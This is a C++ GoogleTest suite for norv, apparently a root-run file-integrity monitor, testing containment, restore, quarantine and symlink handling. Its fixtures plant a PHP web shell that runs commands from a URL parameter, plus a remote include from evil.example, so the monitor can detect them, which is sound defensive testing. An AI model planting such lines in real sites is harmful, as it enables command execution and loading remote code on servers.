// Containment in a hostile tree, on the real norv-cli binary and real folders. norv runs as root
// over folders other users can write: nothing it does may reach outside the watched trees, not
// while an attacker swaps a folder for a link under it, not through names or paths longer than
// the system's limits, not through same-named files elsewhere, and evidence in the cracked
// folder is never disturbed by a later run.
#include <gtest/gtest.h>

#include "tests/app/containment_fixture.h"

namespace norv {
namespace {

TEST_F(ContainmentTest, ANewFileWithANearlyMaximalNameIsMovedUnderANameThatFits) {
    tree.Write("site/index.html", "<h1>home</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    // 244 bytes: with a date and time in front, the copy's name would pass the 255-byte limit.
    const std::string planted = "<?php system($_GET['c']); ?>";
    const std::string path = tree.Write("site/" + std::string(240, 'a') + ".php", planted);

    Outcome check = Run("check", seconds(30));
    ASSERT_FALSE(check.timed_out) << "the check never ended";
    EXPECT_EQ(check.exit_code, 1) << check.out;
    struct stat st {};
    EXPECT_NE(::lstat(path.c_str(), &st), 0) << "the planted file is still in place";
    auto copies = FilesHolding(cracked, planted);
    ASSERT_EQ(copies.size(), 1u) << check.out;
    EXPECT_LE(FileNameOf(copies[0].path).size(), 255u);
}

TEST_F(ContainmentTest, APathLongerThanPathMaxIsWalkedAndItsChangesReported) {
    WriteSettings(/*restore=*/false);
    const std::string index = tree.Write("site/index.html", "<h1>home</h1>");
    // 25 folders of 200 characters: over 5,000 bytes below the tree, past PATH_MAX, so the
    // chain is built (and later removed) through descriptors.
    Fd root(::open(tree.path().c_str(), O_RDONLY | O_DIRECTORY));
    ASSERT_GE(root.fd, 0);
    struct RemoveDeep {
        int parent;
        ~RemoveDeep() { RemoveTreeAt(parent, "deep"); }
    } remove_deep{root.fd};
    ASSERT_EQ(::mkdirat(root.fd, "deep", 0755), 0);
    std::string deep_path = tree / "deep";
    auto leaf = std::make_unique<Fd>(::openat(root.fd, "deep", O_RDONLY | O_DIRECTORY));
    for (int i = 0; i < 25; ++i) {
        std::string name(200, static_cast<char>('a' + i));
        ASSERT_EQ(::mkdirat(leaf->fd, name.c_str(), 0755), 0);
        auto next = std::make_unique<Fd>(::openat(leaf->fd, name.c_str(), O_RDONLY | O_DIRECTORY));
        ASSERT_GE(next->fd, 0);
        leaf = std::move(next);
        deep_path += "/" + name;
    }
    ASSERT_TRUE(WriteAt(leaf->fd, "deep.txt", "deep v1"));
    deep_path += "/deep.txt";
    ASSERT_GT(deep_path.size(), static_cast<size_t>(PATH_MAX));
    Rules({{tree.path(), 3}});

    Outcome init = Run("init");
    ASSERT_EQ(init.exit_code, 0) << init.out;
    EXPECT_NE(init.out.find("( 2 )"), std::string::npos) << init.out;
    Outcome clean = Run("check");
    EXPECT_EQ(clean.exit_code, 0) << clean.out;

    testing::WriteAll(index, "<h1>defaced</h1>");
    Outcome altered = Run("check");
    EXPECT_EQ(altered.exit_code, 1) << altered.out;
    EXPECT_TRUE(HasLine(Log(), "Altered: " + index)) << Log();

    ASSERT_TRUE(WriteAt(leaf->fd, "deep.txt", "deep v2"));
    Outcome deep = Run("check");
    EXPECT_EQ(deep.exit_code, 1) << deep.out;
    EXPECT_TRUE(HasLine(Log(), "Altered: " + deep_path)) << deep.out;
}

// ---------------------------------------------------------------------------------------------
// A restore puts back exactly the file that changed, as it was archived.

TEST_F(ContainmentTest, EachAlteredFileIsKeptAndGetsItsOwnArchivedContentBack) {
    const std::string a = tree.Write("site/a/index.html", "<h1>a</h1>");
    const std::string b = tree.Write("site/b/index.html", "<h1>b</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    // One edit that looks legitimate, one defacement: both are changes against the baseline.
    testing::WriteAll(a, "<h1>a</h1><p>opening hours</p>");
    testing::WriteAll(b, "<h1>defaced</h1>");

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasLine(Log(), "Altered: " + a)) << Log();
    EXPECT_TRUE(HasLine(Log(), "Altered: " + b)) << Log();
    EXPECT_EQ(FilesHolding(cracked, "<h1>a</h1><p>opening hours</p>").size(), 1u);
    EXPECT_EQ(FilesHolding(cracked, "<h1>defaced</h1>").size(), 1u);
    EXPECT_EQ(ReadAll(a), "<h1>a</h1>");
    EXPECT_EQ(ReadAll(b), "<h1>b</h1>");
}

TEST_F(ContainmentTest, ARestoreLeavesASameNamedFileElsewhereUntouched) {
    const std::string a = tree.Write("site/a/index.html", "<h1>a</h1>");
    const std::string b = tree.Write("site/b/index.html", "<h1>b</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    struct stat before {};
    ASSERT_EQ(::lstat(a.c_str(), &before), 0);
    testing::WriteAll(b, "<h1>defaced</h1>");

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasLine(Log(), "Altered: " + b)) << Log();
    EXPECT_FALSE(HasLine(Log(), "Altered: " + a)) << Log();
    EXPECT_EQ(ReadAll(b), "<h1>b</h1>");
    struct stat after {};
    ASSERT_EQ(::lstat(a.c_str(), &after), 0);
    EXPECT_EQ(after.st_ino, before.st_ino) << "a/index.html was replaced";
    EXPECT_EQ(after.st_mtim.tv_sec, before.st_mtim.tv_sec);
    EXPECT_EQ(after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
    EXPECT_EQ(ReadAll(a), "<h1>a</h1>");
}

TEST_F(ContainmentTest, ARestoredFileGetsBackItsOwnerAndMode) {
    if (::geteuid() != 0) GTEST_SKIP() << "giving a file to another owner needs root";
    const std::string config = tree.Write("site/config.php", "<?php $db_password = 'x'; ?>");
    ASSERT_EQ(::chown(config.c_str(), 33, 33), 0);
    ASSERT_EQ(::chmod(config.c_str(), 0640), 0);
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    testing::WriteAll(config, "<?php include 'http://evil.example/x'; ?>");

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_EQ(ReadAll(config), "<?php $db_password = 'x'; ?>");
    struct stat st {};
    ASSERT_EQ(::lstat(config.c_str(), &st), 0);
    EXPECT_EQ(st.st_uid, 33u);
    EXPECT_EQ(st.st_gid, 33u);
    EXPECT_EQ(st.st_mode & 07777, 0640u);
}

// ---------------------------------------------------------------------------------------------
// The cracked folder: evidence stays where it was put, and says where it came from.

TEST_F(ContainmentTest, ACrackedFolderInsideTheTreeIsSkippedAndItsCopiesStay) {
    const std::string quarantine = tree / "site/quarantine";
    WriteSettings(/*restore=*/true, quarantine);
    tree.Write("site/index.html", "<h1>home</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    const std::string planted = "<?php evil(); ?>";
    tree.Write("site/shell.php", planted);

    Outcome first = Run("check");
    ASSERT_FALSE(first.timed_out);
    EXPECT_EQ(first.exit_code, 1) << first.out;
    const auto names = Names(quarantine);
    auto copies = FilesHolding(quarantine, planted);
    ASSERT_EQ(copies.size(), 1u) << first.out;

    Outcome second = Run("check");
    ASSERT_FALSE(second.timed_out);
    EXPECT_NE(second.exit_code, 2) << second.out;
    EXPECT_EQ(Names(quarantine), names) << "a copy in the cracked folder was moved again";
    EXPECT_EQ(ReadAll(copies[0].path), planted);
    bool skipped = false;
    const std::string mark = "Skipped: " + quarantine;
    for (const std::string& line : LogLines(Log())) {
        if (line.rfind(mark, 0) != 0) continue;
        std::string rest = line.substr(mark.size());
        // The folder itself, not one whose name merely begins the same way.
        if (rest.empty() || rest[0] == '/' || rest[0] == ' ' || rest[0] == '(') skipped = true;
    }
    EXPECT_TRUE(skipped) << Log();
}

TEST_F(ContainmentTest, TheCrackedFolderIndexNamesEachCopysOriginalPath) {
    tree.Write("site/index.html", "<h1>home</h1>");
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    const std::string planted = "<?php dropper(); ?>";
    const std::string path = tree.Write("site/uploads/dropper.php", planted);

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    auto copies = FilesHolding(cracked, planted);
    ASSERT_EQ(copies.size(), 1u) << check.out;
    bool named = false;
    for (const auto& file : RegularFilesBelow(cracked)) {
        if (file.path != copies[0].path && file.content.find(path) != std::string::npos) {
            named = true;
        }
    }
    EXPECT_TRUE(named) << "no file in the cracked folder names " << path;
}

// ---------------------------------------------------------------------------------------------
// Rules that name links: the administrator's own links are followed to what they name.

TEST_F(ContainmentTest, AFolderRuleThatIsALinkIsWalkedInItsTarget) {
    WriteSettings(/*restore=*/false);
    const std::string real = tree / "real";
    tree.Write("real/page.html", "v1");
    tree.Write("real/sub/deep.html", "d");
    const std::string link = scratch / "site";
    ASSERT_EQ(::symlink(real.c_str(), link.c_str()), 0);
    Rules({{link, 3}});

    Outcome init = Run("init");
    ASSERT_EQ(init.exit_code, 0) << init.out;
    EXPECT_NE(init.out.find("( 2 )"), std::string::npos) << init.out;
    tree.Write("real/page.html", "v2");
    tree.Write("real/new.html", "n");
    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasChange(Log(), "Altered: ", {link + "/page.html", real + "/page.html"})) << Log();
    EXPECT_TRUE(HasChange(Log(), "Created: ", {link + "/new.html", real + "/new.html"})) << Log();
}

TEST_F(ContainmentTest, AFileRuleThatIsALinkWatchesItsTargetsContent) {
    WriteSettings(/*restore=*/false);
    const std::string target = tree.Write("etc/app.conf", "debug=0\n");
    const std::string link = scratch / "app.conf";
    ASSERT_EQ(::symlink(target.c_str(), link.c_str()), 0);
    Rules({{link, 0}});

    Outcome init = Run("init");
    ASSERT_EQ(init.exit_code, 0) << init.out;
    Outcome clean = Run("check");
    EXPECT_EQ(clean.exit_code, 0) << clean.out;
    testing::WriteAll(target, "debug=1\n");  // same size, the link itself unchanged
    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasChange(Log(), "Altered: ", {link, target})) << Log();
}

// ---------------------------------------------------------------------------------------------
// The archive: a killed run leaves nothing behind; names no text command could carry go in and
// come back.

TEST_F(ContainmentTest, AKilledArchiveLeavesNoTemporaryFileOnceArchivedAgain) {
    for (int i = 0; i < 3000; ++i) {
        tree.Write("d" + std::to_string(i % 30) + "/f" + std::to_string(i),
                   std::string(2000, static_cast<char>('a' + i % 26)));
    }
    std::mt19937 rng(7);
    std::string noise(8 << 20, '\0');
    for (auto& c : noise) c = static_cast<char>(rng());
    tree.Write("noise.bin", noise);  // does not compress: the run takes a while
    Rules({{tree.path(), 3}});

    pid_t pid = Spawn({binary, "--dir", program.path(), "archive"}, scratch / "killed.txt");
    ASSERT_GT(pid, 0);
    // Kill it once it is writing: a new entry in the save folder, or a descriptor it holds open
    // on a file there (a file without a name has no entry).
    auto writing = [&] {
        for (const std::string& name : Names(save)) {
            if (name != "arcive.lzh") return true;
        }
        const std::string fds = "/proc/" + std::to_string(pid) + "/fd";
        for (const std::string& fd : Names(fds)) {
            char target[PATH_MAX];
            ssize_t n = ::readlink((fds + "/" + fd).c_str(), target, sizeof target);
            if (n > 0 && std::string(target, size_t(n)).rfind(save + "/", 0) == 0) return true;
        }
        return false;
    };
    bool caught = false;
    bool ended = false;
    const auto deadline = SteadyClock::now() + seconds(60);
    while (!caught && !ended && SteadyClock::now() < deadline) {
        if (writing()) {
            caught = true;
        } else if (::waitpid(pid, nullptr, WNOHANG) == pid) {
            ended = true;
        } else {
            Pause();
        }
    }
    if (!ended) {
        ::kill(pid, SIGKILL);
        ::waitpid(pid, nullptr, 0);
    }
    ASSERT_TRUE(caught) << "the archive run was never seen writing: "
                        << ReadAll(scratch / "killed.txt");

    Outcome again = Run("archive");
    EXPECT_EQ(again.exit_code, 0) << again.out;
    EXPECT_EQ(Names(save), std::vector<std::string>{"arcive.lzh"});
}

TEST_F(ContainmentTest, ARuleFolderWithAQuoteInItsNameIsArchivedAndRestored) {
    const std::string folder = tree / "we\"b";
    tree.Write("we\"b/index.html", "<p>home</p>");
    const std::string page = tree.Write("we\"b/inner/page.html", "<p>page</p>");
    Rules({{folder, 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    ASSERT_EQ(::unlink(page.c_str()), 0);

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_TRUE(HasLine(Log(), "Deleted: " + page)) << Log();
    EXPECT_EQ(ReadAll(page), "<p>page</p>") << check.out;
}

TEST_F(ContainmentTest, FileNamesWithLineBreaksStarsQuotesAndNonUtf8BytesAreArchivedAndRestored) {
    const std::vector<std::string> names = {"line\nbreak.html", "star*.html", "quote\".html",
                                            "bad\xFF\xFE.html"};
    tree.Write("site/plain.html", "plain");
    for (size_t i = 0; i < names.size(); ++i) {
        tree.Write("site/" + names[i], "content " + std::to_string(i));
    }
    Rules({{tree / "site", 3}});
    ASSERT_NO_FATAL_FAILURE(ArchiveAndInit());
    for (const std::string& name : names) ASSERT_EQ(::unlink((tree / ("site/" + name)).c_str()), 0);

    Outcome check = Run("check");
    EXPECT_EQ(check.exit_code, 1) << check.out;
    EXPECT_NE(check.out.find("削除 4"), std::string::npos) << check.out;
    for (size_t i = 0; i < names.size(); ++i) {
        EXPECT_EQ(ReadAll(tree / ("site/" + names[i])), "content " + std::to_string(i))
            << "not restored: " << testing::ReadAll(scratch / "out.txt");
    }
}

// ---------------------------------------------------------------------------------------------
// Races: an unprivileged attacker swaps a folder of the tree with a link to a folder outside it,
// continually, while norv (as root) walks, moves and restores.

// The swap_race helper, run as nobody, and stopped (SIGTERM) when the test is done with it.

}  // namespace
}  // namespace norv
